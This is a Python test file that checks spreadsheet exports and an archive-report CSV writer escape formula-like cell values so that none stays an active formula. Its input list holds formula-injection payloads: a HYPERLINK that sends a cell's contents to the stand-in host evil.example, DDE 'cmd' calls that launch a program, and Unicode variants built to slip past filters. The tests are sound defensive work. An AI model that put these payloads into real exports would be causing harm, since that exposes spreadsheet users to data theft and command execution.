"""No export hands a spreadsheet a formula that somebody wrote."""

import csv
import datetime

import pytest

from accounts.spreadsheets import harmless
from bulletins.importing.archive import Entry, Outcome
from bulletins.importing.archive_report import TABLE, Report, write_report

FORMULAS = [
    '=HYPERLINK("https://evil.example/?"&A1,"打开")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u3000=1+1",
    "＝1+1",
    "＋1",
    "＠SUM(1)",
    "\0=1+1",
]


@pytest.mark.parametrize("words", FORMULAS)
def test_a_formula_is_written_as_words(words):
    assert harmless(words).startswith("'")


@pytest.mark.parametrize("words", ["渡口码头", "7.8%", "", "a=b", "《江原》-第8期"])
def test_words_stay_as_they_are(words):
    assert harmless(words) == words


def test_figures_stay_figures():
    assert harmless(-3) == -3
    assert harmless(2.5) == 2.5


@pytest.mark.parametrize("words", FORMULAS)
def test_no_cell_of_the_report_of_an_archive_is_a_formula(tmp_path, words):
    entry = Entry(name=words, outcome=Outcome.FAILED, reason=words, notes=[words])
    write_report(Report(words, [entry], began=datetime.datetime(2026, 1, 1)), tmp_path)
    with (tmp_path / TABLE).open(encoding="utf-8-sig", newline="") as file:
        cells = [cell for row in csv.reader(file) for cell in row]
    assert any(cell.startswith("'") for cell in cells)
    assert [cell for cell in cells if cell.lstrip().startswith(tuple("=+-@＝＋－＠"))] == []
